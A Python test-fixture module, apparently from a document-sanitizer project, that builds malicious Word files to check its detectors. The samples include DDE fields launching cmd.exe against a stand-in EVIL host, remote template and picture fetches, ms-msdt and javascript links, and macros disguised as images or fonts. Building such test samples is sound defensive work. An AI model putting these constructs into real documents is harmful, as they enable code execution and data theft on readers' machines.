"""Word files that act."""

from collections.abc import Callable
from functools import partial

from lienthong.kernel.files import acting, packages
from lienthong.kernel.files.tests.made import Made, W, field, word, zipped

from .nature import EVIL, Nature, made_by

FETCHED = f"https://{EVIL}/x"
OLE = packages.OLD_OFFICE + bytes(504)
MS = "http://schemas.microsoft.com/office"
P = "<w:p/>"
ROOM = f'xmlns:w="{W}"'


def outside(kind: str, target: str = FETCHED, body: str = P, owner: str | None = None) -> Made:
    made = word(body)
    made.outside(kind, target, owner)
    return made


def template(target: str, place: str = "word/settings.xml") -> Made:
    made = word()
    names = f'{ROOM} xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    settings = f'<w:settings {names}><w:attachedTemplate r:id="rId1"/></w:settings>'
    made.part(place, settings, kind="settings")
    made.outside("attachedTemplate", target, place)
    return made


def picture() -> Made:
    return outside(
        "image", body='<w:p><w:r><w:drawing><a:blip r:link="rId1"/></w:drawing></w:r></w:p>'
    )


def old_picture(attribute: str) -> Made:
    return word(
        f'<w:p><w:r><w:pict><v:shape><v:imagedata {attribute}="{FETCHED}.png"/></v:shape></w:pict></w:r></w:p>'
    )


def carried(name: str, content: bytes, kind: str, content_type: str = "application/x") -> Made:
    made = word()
    made.part(name, content, content_type, kind=kind)
    return made


def with_element(element: str) -> Made:
    return word(f"<w:p>{element}</w:p>")


def in_part(name: str, root: str, body: str, kind: str) -> Made:
    made = word()
    made.part(name, f"<w:{root} {ROOM}>{body}</w:{root}>", kind=kind)
    return made


def simple(code: str) -> Made:
    return word(
        f'<w:p><w:fldSimple w:instr="{code}"><w:r><w:t>kết quả</w:t></w:r></w:fldSimple></w:p>'
    )


def split(code: str) -> Made:
    """The instruction in pieces, one letter a run."""
    runs = "".join(f"<w:r><w:instrText>{letter}</w:instrText></w:r>" for letter in code)
    marks = [
        f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
    ]
    return word(f"<w:p>{marks[0]}{runs}{marks[1]}{marks[2]}</w:p>")


def fields(code: str) -> list[Callable[[], Made]]:
    """A field in every place a field can stand."""
    return [
        lambda: word(field(code)),
        lambda: simple(code.replace('"', "&quot;")),
        lambda: split(code),
        lambda: in_part("word/footer7.xml", "ftr", field(code), "footer"),
        lambda: in_part("word/x/y.xml", "footnotes", field(code), "footnotes"),
        lambda: word(field(code).replace("instrText", "delInstrText")),
        lambda: word(f"<w:tbl><w:tr><w:tc><w:sdt><w:sdtContent>{field(code)}</w:sdtContent></w:sdt></w:tc></w:tr></w:tbl>"),
    ]  # fmt: skip


def composed() -> Made:
    """The name of a field made by another field."""
    begin, between, end = (
        f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end")
    )
    inner = f"{begin}<w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r>{between}<w:r><w:t>DDE</w:t></w:r>{end}"
    rest = "<w:r><w:instrText> c:\\\\windows\\\\cmd.exe</w:instrText></w:r>"
    return word(f"<w:p>{begin}{inner}{rest}{between}{end}</w:p>")


def chart() -> Made:
    made = word()
    made.part(
        "word/charts/chart1.xml",
        '<c:chartSpace xmlns:c="urn:c"><c:externalData id="rId1"/></c:chartSpace>',
        kind="chart",
    )
    made.part(
        "word/embeddings/b.xlsx",
        zipped({"a": b"b"}),
        kind="package",
        owner="word/charts/chart1.xml",
    )
    return made


def settings(body: str) -> Made:
    return in_part("word/settings.xml", "settings", body, "settings")


def typed(content_type: str, name: str = "word/a.xml") -> Made:
    made = word()
    made.part(name, "<a/>", content_type)
    return made


def main_type(content_type: str) -> Made:
    made = word()
    made.types[made.main] = content_type
    return made


def svg(inside: str) -> Made:
    return carried("word/media/a.svg", f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink">{inside}</svg>'.encode(), "image")  # fmt: skip


def _nature(
    name: str, carries: str, caught_by: str, *makers: Callable[[], Made], cleans: bool = False
) -> Nature:
    return Nature(name, carries, caught_by, ".docx", made_by(*makers), cleans)


_VBA = packages.OLD_OFFICE + bytes(200) + acting.VBA + bytes(300)
_LINK = '<w:p><w:hyperlink r:id="rId1"><w:r><w:t>xem</w:t></w:r></w:hyperlink></w:p>'

NATURES = [
    _nature("template from the web", "attachedTemplate, External", acting.TEMPLATE,
            partial(template, f"{FETCHED}.dotm"), cleans=True),
    _nature("template from a share", "attachedTemplate by UNC or file:", acting.TEMPLATE,
            partial(template, f"\\\\{EVIL}\\a.dotm"), partial(template, f"file://{EVIL}/a.dotm"),
            partial(template, FETCHED, "word/x.bin"), cleans=True),
    _nature("picture from the web", "blip r:link", acting.PICTURE, picture, cleans=True),
    _nature("picture of an old drawing", "v:imagedata src, o:href", acting.PICTURE,
            partial(old_picture, "src"), partial(old_picture, "o:href"), cleans=True),
    _nature("click on an old drawing", "href of a shape", acting.LINK,
            *(lambda place=place: with_element(f'<w:r><w:pict><v:shape href="{place}"/></w:pict></w:r>') for place in (f"file://{EVIL}/a", "a.exe", f" \\\\{EVIL}\\a")), cleans=True),
    _nature("OLE link", "oleObject, External", acting.FETCHED, partial(outside, "oleObject"), cleans=True),
    _nature("frame", "frame, External", acting.FETCHED, partial(outside, "frame"), cleans=True),
    _nature("something unknown from the web", "an external relationship of any other type", acting.FETCHED,
            partial(outside, "x"), partial(outside, f"{MS}/2011/relationships/y"),
            partial(outside, "theme"), cleans=True),
    _nature("outside that says it is inside", "an address without TargetMode", acting.FETCHED,
            lambda: _inside("customXml"), cleans=True),
    _nature("subdocument", "subDocument, w:subDoc", acting.FETCHED, partial(outside, "subDocument")),
    _nature("link to a file", "hyperlink to file:, a share, a script", acting.LINK,
            *(partial(outside, "hyperlink", target, _LINK) for target in
              (f"file://{EVIL}/a.exe", f"\\\\{EVIL}\\a", "javascript:alert(1)", "ms-msdt:/id", f"ftp://{EVIL}")), cleans=True),
    _nature("DDE", "field DDE", acting.FIELD, *fields(f'DDE "c:\\\\cmd.exe" "/k {EVIL}"'), cleans=True),
    _nature("DDEAUTO", "field DDEAUTO", acting.FIELD, *fields(f' ddeauto c:\\\\cmd.exe "{EVIL}"'), cleans=True),
    _nature("name made by a field", "QUOTE in the place of DDE", acting.FIELD, composed, cleans=True),
    _nature("INCLUDEPICTURE", "field that fetches a picture", acting.FIELD, *fields(f'INCLUDEPICTURE "{FETCHED}" \\d'), cleans=True),
    _nature("INCLUDETEXT", "field that fetches text", acting.FIELD, *fields(f'INCLUDETEXT "{FETCHED}"'), cleans=True),
    _nature("LINK", "field that fetches from another program", acting.FIELD, *fields(f'LINK Excel.Sheet.8 "{FETCHED}" \\a'), cleans=True),
    _nature("other fields that act", "IMPORT, DATABASE, RD, PRINT, EMBED, AUTOTEXT, unknown", acting.FIELD,
            *(partial(simple, code) for code in ("IMPORT x", "DATABASE", "RD x", "PRINT 27", "EMBED x", "AUTOTEXT x", "XYZ")), cleans=True),
    _nature("MACROBUTTON", "field that runs a macro", acting.FIELD, partial(simple, "MACROBUTTON Go bấm")),
    _nature("HYPERLINK to a file beside", "field with an address that begins nowhere", acting.FIELD,
            partial(simple, "HYPERLINK a.exe"), partial(simple, "HYPERLINK \\n ..\\a.exe \\o https://a.example"), cleans=True),
    _nature("HYPERLINK to a file", "field with an address that is none of the web", acting.FIELD,
            *fields(f'HYPERLINK "file://{EVIL}/a.exe"'), cleans=True),
    _nature("foreign text", "altChunk, aFChunk", acting.CONVERTED,
            partial(carried, "word/a.html", b"<html/>", "aFChunk"), lambda: word('<w:altChunk r:id="rId9"/>'),
            partial(carried, "word/a.xml", b"<a/>", "aFChunk")),
    _nature("macros", "vbaProject.bin", packages.MACROS,
            partial(carried, "word/vbaProject.bin", _VBA, f"{MS}/2006/relationships/vbaProject")),
    _nature("macros under another name", "a VBA container called picture, font, settings of a printer", packages.MACROS,
            *(partial(carried, name, _VBA, kind) for name, kind in
              (("word/media/a.png", "image"), ("word/fonts/f.odttf", "font"), ("word/p.bin", "printerSettings"), ("customXml/i.xml", "customXml"))),
            partial(carried, "word/a.xml", b"<a/>", f"{MS}/2006/relationships/vbaProject")),
    _nature("macro content type", "macroEnabled and VBA types", packages.MACROS,
            partial(main_type, "application/vnd.ms-word.document.macroEnabled.main+xml"),
            partial(typed, "application/vnd.ms-office.vbaProject"), partial(typed, "application/vnd.ms-word.vbaData+xml")),
    _nature("another kind of document", "a template as a document", packages.OTHER_KIND,
            partial(main_type, "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml")),
    _nature("embedded object", "OLE containers", acting.OBJECTS,
            partial(carried, "word/embeddings/o.bin", OLE, "oleObject"), partial(carried, "word/media/a.jpg", OLE, "image"),
            lambda: word('<w:p><w:r><w:object><o:OLEObject r:id="rId9"/></w:object></w:r></w:p>')),
    _nature("embedded package", "a document within the document", acting.OBJECTS,
            partial(carried, "word/embeddings/d.docx", word().data(), "package"), partial(carried, "word/media/p.png", word().data(), "image")),
    _nature("embedded program", "executables, scripts, PDF, RTF under any name", acting.OBJECTS,
            *(partial(carried, f"word/media/a{at}.png", content, "image") for at, content in
              enumerate((b"MZ\x90\0", b"\x7fELF\x02", b"#!/bin/sh\n", b"%PDF-1.7\n", b"{\\rtf1 x}", b"7z\xbc\xaf\x27\x1c")))),
    _nature("something unknown inside", "a part that is neither text nor picture", acting.CARRIED,
            partial(carried, "word/media/a.png", b"\x4c\0\0\0\x01\x14\x02\0", "image"), partial(carried, "word/a.hta", b"alert(1)", "x")),
    _nature("ActiveX", "controls", acting.OBJECTS,
            partial(carried, "word/activeX/a.xml", b"<a/>", "control"), lambda: with_element('<w:r><w:control r:id="rId9"/></w:r>'),
            partial(typed, "application/vnd.ms-office.activeX+xml")),
    _nature("workbook of a chart", "embedded workbook", acting.CHART_DATA, chart, cleans=True),
    _nature("own buttons", "customUI with callbacks", acting.BUTTONS,
            lambda: _ribbon(f"{MS}/2006/relationships/ui/extensibility"), lambda: _ribbon(f"{MS}/2007/relationships/ui/extensibility"),
            lambda: _ribbon(f"{MS}/2006/relationships/ui/userCustomization"), cleans=True),
    _nature("own keys", "keyMapCustomizations, toolbars", acting.BUTTONS,
            partial(carried, "word/customizations.xml", b"<a/>", f"{MS}/2006/relationships/keyMapCustomizations"),
            partial(carried, "word/t.xml", b"<a/>", f"{MS}/2006/relationships/attachedToolbars"), cleans=True),
    _nature("form field that starts a macro", "entryMacro, exitMacro", acting.BUTTONS,
            lambda: with_element('<w:r><w:fldChar><w:ffData><w:entryMacro w:val="x"/></w:ffData></w:fldChar></w:r>'), cleans=True),
    _nature("click that runs a program", "hlinkClick with ppaction", acting.BUTTONS,
            lambda: with_element('<w:r><w:drawing><a:hlinkClick r:id="" action="ppaction://program"/></w:drawing></w:r>'), cleans=True),
    _nature("web add-in", "webextension", acting.ADD_IN,
            partial(carried, "word/webextensions/w.xml", b"<a/>", f"{MS}/2011/relationships/webextension"),
            partial(carried, "word/webextensions/t.xml", b"<a/>", f"{MS}/2011/relationships/webextensiontaskpanes"), cleans=True),
    _nature("program a document brings along", "_AssemblyLocation, manifests of solutions", acting.ADD_IN,
            partial(carried, "docProps/custom.xml", f'<Properties><property name="_AssemblyLocation"><v>{EVIL}|1</v></property></Properties>'.encode(), "custom-properties"),
            partial(settings, f'<s:schemaLibrary xmlns:s="urn:s"><s:schema s:manifestLocation="https://{EVIL}/m.xml"/></s:schemaLibrary>'), cleans=True),
    _nature("video of the web", "webVideoPr with its HTML", acting.VIDEO,
            lambda: with_element(f'<x:webVideoPr xmlns:x="{MS}/word/2012/wordprocessingDrawing" embeddedHtml="&lt;script&gt;{EVIL}"/>'), cleans=True),
    _nature("mail merge", "data source, query", acting.DATA,
            partial(settings, f'<w:mailMerge><w:connectString w:val="{EVIL}"/><w:query w:val="SELECT"/></w:mailMerge>'),
            partial(outside, "mailMergeSource"), cleans=True),
    _nature("saved through a stylesheet", "saveThroughXslt", acting.DATA, partial(settings, "<w:saveThroughXslt/>"), cleans=True),
    _nature("query in a data mashup", "DataMashup", acting.DATA,
            partial(carried, "customXml/item1.xml", b'<DataMashup xmlns="urn:x">AAAA</DataMashup>', "customXml")),
    _nature("drawing that runs", "SVG with script, foreign objects, handlers, addresses", acting.SCRIPT,
            partial(svg, "<script>1</script>"), partial(svg, "<foreignObject/>"), partial(svg, '<g onload="x()"/>'), partial(svg, f'<image x:href="{FETCHED}"/>')),
    _nature("entities", "DOCTYPE, ENTITY in any part", packages.DAMAGED,
            partial(carried, "word/e.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', "x"),
            partial(carried, "word/e.xml", '<!DOCTYPE a SYSTEM "http://evil.example"><a/>'.encode("utf-16"), "x")),
    _nature("strange encodings", "UTF-7, UTF-32 and other encodings", packages.DAMAGED,
            partial(carried, "word/e.xml", b'<?xml version="1.0" encoding="UTF-7"?><a/>', "x"),
            partial(carried, "word/e.xml", b'<?xml version="1.0" encoding="cp037"?><a/>', "x"),
            partial(carried, "word/e.xml", "<a/>".encode("utf-32-le"), "x")),
]  # fmt: skip


def _inside(kind: str) -> Made:
    made = word()
    made.line(kind, FETCHED)
    made.line(kind, f"//{EVIL}/a", mode="Internal")
    made.line(kind, f" %68ttps://{EVIL}/a")
    return made


def _ribbon(kind: str) -> Made:
    made = word()
    made.part("customUI/customUI.xml", '<customUI onLoad="x"/>', kind=kind, owner="")
    return made
